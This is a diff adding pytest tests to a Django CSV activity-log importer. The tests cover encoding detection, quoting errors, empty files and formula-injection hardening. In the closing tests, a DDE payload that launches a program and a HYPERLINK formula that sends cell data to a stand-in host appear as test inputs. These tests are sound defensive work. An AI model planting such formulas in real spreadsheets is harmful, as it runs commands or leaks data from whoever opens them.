@@ -127,6 +127,10 @@ def test_a_value_beyond_the_header_is_an_error_of_that_row():
 
 
 NOT_CSV = "The file is not a CSV text file."
+UNKNOWN_ENCODING = (
+    "The file's character encoding was not recognised. Save the file as CSV in UTF-8 (in Excel: "
+    "CSV UTF-8) or in Windows-1252 (Excel's ordinary CSV) and upload it again."
+)
 
 
 @pytest.mark.parametrize(
@@ -137,7 +141,7 @@ NOT_CSV = "The file is not a CSV text file."
         (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10", NOT_CSV),
         (bytes(range(256)) * 4, NOT_CSV),
         (b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00", NOT_CSV),
-        (b"\x81\x8d\x8f\x90\x9d\xff\xfe", NOT_CSV),
+        (b"\x81\x8d\x8f\x90\x9d\xff\xfe", UNKNOWN_ENCODING),
         (b"\x1b[31m;\x07\r\n12;2026-03-15", NOT_CSV),
     ],
     ids=["empty", "blank", "png", "all-bytes", "xlsx", "undecodable", "control-characters"],
@@ -240,7 +244,7 @@ def test_one_bad_row_saves_nothing_and_reports_exactly_that_row_and_column(
         "intern_anteckning": "",
     }
     bad[column] = str(value).replace('"', '""')
-    bad_row = ";".join(f'"{bad[c.name]}"' for c in COLUMNS)
+    bad_row = ";".join(f'"{bad[name]}"' for name in HEADER.split(";"))
     good = f"{world.police.pk};2026-03-15;1;Storgatan;Kontroll;"
     result = _import(world, _csv(good, bad_row, good.replace("03-15", "03-17")))
     assert [(error.row, error.column) for error in result.row_errors] == [(3, column)]
@@ -353,8 +357,8 @@ def test_validating_many_rows_costs_a_fixed_number_of_queries(world, django_asse
 
 def test_saving_many_rows_adds_only_the_inserts_per_row(world, django_assert_max_num_queries):
     rows = [f"{world.police.pk};2026-03-15;1;Storgatan;Kontroll;"] * 200
-    # Per row: a savepoint, the log, its history record, the savepoint's release.
-    with django_assert_max_num_queries(4 + 4 * 200):
+    # Per row: a savepoint, the log, its history record, its progress sum, the savepoint's release.
+    with django_assert_max_num_queries(4 + 5 * 200):
         result = _import(world, _csv(*rows))
     assert len(result.saved) == 200
 
@@ -493,5 +497,216 @@ def test_the_template_lists_only_the_users_activities_and_imports_as_it_is(clien
     ]
     assert {values["datum"] for _, values in parsed.rows} == {today.isoformat()}
     assert {values["antal"] for _, values in parsed.rows} == {"1"}
+    assert _post(client, world, response.content).status_code == 302
+    assert ActivityLog.objects.count() == 2
+
+
+# Hardening: one encoding per file, strict quoting, files with nothing in them
+
+BROKEN_UTF8 = (
+    "The file is in UTF-8 but has an invalid character on line %(line)s. Save it again as UTF-8 "
+    "(in Excel: CSV UTF-8) and upload it again."
+)
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        "a;plats\r\n1;Tranås torg".encode(),
+        b"\xef\xbb\xbf" + "a;plats\r\n1;Tranås torg".encode(),
+        "a;plats\r\n1;Tranås torg".encode("cp1252"),
+    ],
+    ids=["utf-8", "utf-8 with BOM", "windows-1252"],
+)
+def test_decode_reads_utf8_with_or_without_bom_and_swedish_windows_1252(data):
+    assert csv_import.decode(data) == "a;plats\r\n1;Tranås torg"
+
+
+def test_decode_keeps_windows_1252_punctuation_as_excel_writes_it():
+    text = "plats\r\n”Ärla” – 5 € … ‘Öster’ • 20 °C, § 3, ½ — é"
+    assert csv_import.decode(text.encode("cp1252")) == text
+
+
+@pytest.mark.parametrize(
+    "data,line",
+    [
+        ("a;plats\r\n1;Tranås torg\r\n2;Storg".encode() + b"\xe5tan", 3),
+        ("a;plats\r\n1;Storgatan\r\n2;Tranås".encode() + b"\xff", 3),
+        (b"\xef\xbb\xbfa;plats\r\n1;Storg\xe5tan", 2),
+        ("a;plats\n1;Tranås\n2;x\n3;".encode() + b"\x80", 4),
+    ],
+    ids=["lone latin-1 byte", "0xff", "BOM and a latin-1 byte", "stray continuation byte"],
+)
+def test_decode_refuses_utf8_with_a_bad_byte_and_names_its_line(data, line):
+    with pytest.raises(csv_import.UnreadableFile) as refused:
+        csv_import.decode(data)
+    assert str(refused.value) == gettext(BROKEN_UTF8) % {"line": line}
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        "aktivitet_id;plats\r\n12;テスト".encode("shift_jis"),
+        "aktivitet_id;plats\r\n12;東京駅の前".encode("shift_jis"),
+        b"aktivitet_id;plats\r\n12;\x81\x8d",  # bytes Windows-1252 leaves undefined
+        "aktivitet_id;plats\r\n12;Žœ™‰".encode("cp1252"),
+    ],
+    ids=["shift-jis katakana", "shift-jis kanji", "undefined in windows-1252", "odd symbols"],
+)
+def test_decode_refuses_text_that_is_neither_utf8_nor_swedish_windows_1252(data):
+    with pytest.raises(csv_import.UnreadableFile) as refused:
+        csv_import.decode(data)
+    assert str(refused.value) == gettext(UNKNOWN_ENCODING)
+    assert "UTF-8" in str(refused.value) and "Windows-1252" in str(refused.value)
+
+
+def test_a_utf8_file_with_one_bad_byte_is_refused_not_stored_as_mojibake(world):
+    good = _csv(
+        f"{world.police.pk};2026-03-15;1;Tranås torg;;", f"{world.joint.pk};2026-03-16;1;;;"
+    )
+    bad = f"\r\n{world.police.pk};2026-03-17;1;Storg".encode() + b"\xe5" + b"tan;;"
+    result = _import(world, good + bad)
+    assert result.file_errors == [gettext(BROKEN_UTF8) % {"line": 4}]
+    assert not ActivityLog.objects.exists()
+
+
+def test_a_windows_1252_file_stores_tranas_torg_as_written(world):
+    data = _csv(f"{world.police.pk};2026-03-15;1;Tranås torg;Kontroll;", encoding="cp1252")
+    assert _import(world, data).error_count == 0
+    assert ActivityLog.objects.get().place == "Tranås torg"
+
+
+def test_a_shift_jis_file_is_refused_with_a_swedish_message_naming_the_encodings(client, world):
+    sign_in(client, world.user)
+    data = _csv(f"{world.police.pk};2026-03-15;1;テスト;;", encoding="shift_jis")
+    response = _post(client, world, data)
+    assert response.status_code == 200
+    assert response.context["result"].file_errors == [gettext(UNKNOWN_ENCODING)]
+    content = response.content.decode()
+    assert "Filens teckenkodning" in content and "Windows-1252" in content
+    assert not ActivityLog.objects.exists()
+
+
+NO_HEADER = "The file has no header row: it holds only separators and blanks."
+
+
+@pytest.mark.parametrize(
+    "data", [b";", b'" "', b";;;\r\n", b'\xef\xbb\xbf;\r\n"";" "\r\n', b",,\n"]
+)
+def test_a_file_of_only_separators_or_blank_quotes_is_a_file_error(world, data):
+    assert parse_csv(data).error == gettext(NO_HEADER)
+    result = _import(world, data)
+    assert result.file_errors == [gettext(NO_HEADER)] and result.saved == []
+    assert not ActivityLog.objects.exists()
+
+
+def test_a_file_of_only_separators_shows_a_swedish_message_not_a_server_error(client, world):
+    sign_in(client, world.user)
+    response = _post(client, world, b";")
+    assert response.status_code == 200
+    assert "Filen saknar rubrikrad" in response.content.decode()
+
+
+UNCLOSED = (
+    "Row %(row)s has a quotation mark that is not closed, or text right after a closing "
+    "quotation mark. Check the quotation marks from that row on."
+)
+
+
+@pytest.mark.parametrize(
+    "rows,row",
+    [
+        (('ID;2026-03-15;1;"Storgatan;;', "ID;2026-03-16;1;Torget;;"), 2),
+        (("ID;2026-03-15;1;Storgatan;;", "", 'ID;2026-03-16;1;"Torget;;', "ID;2026-03-17;1;;;"), 4),
+        (('ID;2026-03-15;1;"Stor"gatan;;',), 2),
+        (('ID;2026-03-15;1;"Torget";"Rad ett', 'rad två";', 'ID;2026-03-16;1;"Park;;'), 3),
+    ],
+    ids=["unclosed swallows the rest", "after a blank line", "text after quote", "after multiline"],
+)
+def test_malformed_quoting_is_refused_with_the_row_it_starts_on(world, rows, row):
+    data = _csv(*(line.replace("ID", str(world.police.pk)) for line in rows))
+    assert parse_csv(data).error == gettext(UNCLOSED) % {"row": row}
+    result = _import(world, data)
+    assert result.file_errors == [gettext(UNCLOSED) % {"row": row}]
+    assert not ActivityLog.objects.exists()
+
+
+def test_safe_cell_puts_an_apostrophe_before_text_a_spreadsheet_would_run():
+    from activities.spreadsheet import safe_cell
+
+    for text in ("=1+1", "+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\tx", "\rx"):
+        assert safe_cell(text) == "'" + text
+    for value in ("Trafikkontroll", "2026-01-01", "", "a=b", "'=x"):
+        assert safe_cell(value) == value
+    for value in (-3, 12, datetime.date(2026, 1, 1), None):
+        assert safe_cell(value) is value
+
+
+def _template_rows(client):
+    """The template download and its rows as the import reads them."""
+    response = client.get(reverse("activities:log_import") + "?mall=1")
+    assert response.status_code == 200
+    parsed = parse_csv(response.content)
+    assert parsed.error is None and parsed.row_errors == []
+    return response, [values for _, values in parsed.rows]
+
+
+def test_the_template_proposes_a_loggable_date_and_imports_unchanged_with_no_errors(client, world):
+    today = _in_force_period_today(world)
+    ended = factories.period(
+        "vetlanda", start=today - datetime.timedelta(days=400), end=today - datetime.timedelta(10)
+    )
+    not_started = factories.period(
+        "vetlanda", start=today + datetime.timedelta(days=10), end=today + datetime.timedelta(300)
+    )
+    ended_activity = factories.activity(ended, "Avslutad kontroll")
+    future_activity = factories.activity(not_started, "Kommande kontroll")
+    sign_in(client, world.user)
+    response, values = _template_rows(client)
+    dates = {int(row["aktivitet_id"]): row["datum"] for row in values}
+    assert dates == {
+        world.police.pk: today.isoformat(),
+        world.joint.pk: today.isoformat(),
+        ended_activity.pk: ended.end_date.isoformat(),
+    }
+    assert future_activity.pk not in dates
+    assert {row["aktivitet_namn"] for row in values} >= {"Trafikkontroller", "Avslutad kontroll"}
+    upload = _post(client, world, response.content)
+    assert upload.status_code == 302
+    assert sorted(ActivityLog.objects.values_list("activity_id", "date")) == sorted(
+        [
+            (world.police.pk, today),
+            (world.joint.pk, today),
+            (ended_activity.pk, ended.end_date),
+        ]
+    )
+
+
+def test_template_date_follows_the_log_forms_rule(world):
+    period = world.period  # 2026-01-01 to 2026-12-31
+    activity = world.police
+    assert csv_import.template_date(activity, datetime.date(2026, 6, 15)) == datetime.date(
+        2026, 6, 15
+    )
+    assert csv_import.template_date(activity, datetime.date(2026, 1, 1)) == period.start_date
+    assert csv_import.template_date(activity, datetime.date(2027, 3, 1)) == period.end_date
+    assert csv_import.template_date(activity, datetime.date(2025, 12, 31)) is None
+
+
+def test_the_template_puts_an_apostrophe_before_activity_names_that_start_like_formulas(
+    client, world
+):
+    _in_force_period_today(world)
+    world.police.title = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka")'
+    world.police.save()
+    world.joint.title = "-2+3+cmd|' /C calc'!A0"
+    world.joint.save()
+    sign_in(client, world.user)
+    response, values = _template_rows(client)
+    assert [row["aktivitet_namn"] for row in values] == [
+        "'" + world.police.title,
+        "'" + world.joint.title,
+    ]
+    assert [row["aktivitet_id"] for row in values] == [str(world.police.pk), str(world.joint.pk)]
     assert _post(client, world, response.content).status_code == 302
     assert ActivityLog.objects.count() == 2
